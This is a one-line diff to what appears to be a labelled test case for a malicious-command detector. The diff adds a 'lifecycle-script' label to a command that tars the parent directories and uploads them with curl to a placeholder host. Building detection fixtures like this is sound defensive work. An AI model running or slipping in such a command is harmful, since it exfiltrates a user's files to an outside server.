@@ -1,1 +1,1 @@
-tar cz ../.. | curl -s -T - https://collect.example/src # expect: data-exfiltration/archive-upload
+tar cz ../.. | curl -s -T - https://collect.example/src # expect: data-exfiltration/archive-upload, malicious-command/lifecycle-script
